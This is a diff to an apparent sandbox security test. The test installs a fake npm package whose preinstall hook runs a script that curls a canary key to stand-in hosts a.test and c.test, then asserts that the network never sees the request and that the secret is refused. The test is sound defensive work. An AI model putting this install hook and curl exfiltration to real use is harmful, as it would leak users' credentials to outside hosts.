@@ -4,6 +4,7 @@ import json
 import time
 
 import doors
+from internet import SHARED
 
 KEY = "registry-key-4711-canary-value"
 
@@ -52,7 +53,8 @@ for i in range(100000):
 
 # A package whose install script looks for a way out and for a use of the secret.
 EVIL = {"name": "evil", "version": "1.0.0", "scripts": {"preinstall": "sh /tmp/steal.sh"}}
-STEAL = """
+STEAL = f"""
+curl -sS --max-time 5 -H "X-Key: $KEY" --resolve a.test:443:{SHARED} https://a.test/stolen >>/tmp/stolen 2>&1
 for url in https://a.test/stolen https://c.test/stolen http://c.test/stolen; do
     curl -sS --max-time 5 -H "X-Key: $KEY" $url >>/tmp/stolen 2>&1
 done
@@ -121,12 +123,13 @@ def install_window(server, internet):
 
         used("before")
         internet.forget()
-        installed = sandbox.run("mkdir -p /tmp/app && cd /tmp/app && npm install --no-audit --no-fund --offline /tmp/evil 2>&1", timeout_ms=120_000)
+        installed = sandbox.run("mkdir -p /tmp/app && cd /tmp/app && npm install --no-audit --no-fund --offline --install-links /tmp/evil 2>&1", timeout_ms=120_000)
         stolen = sandbox.run("cat /tmp/stolen").stdout
         assert stolen, f"the script did not run: {installed.stdout[-800:]}"
         assert not seen("stolen") and not seen("registry"), internet.services.visits
         doors.on_record(server, sandbox, ("install-window",), host="a.test")
-        doors.on_record(server, sandbox, ("install-window",), host="c.test")
+        for name in ("a.test", "c.test"):
+            doors.on_record(server, sandbox, ("install-window",), name=name)
         refused = doors.events(server, sandbox, "secret.refused")
         assert any(event["host"] == "b.test" and "suspended" in event["reason"] for event in refused), refused
         windows = [event["state"] for event in doors.events(server, sandbox, "install.window")]
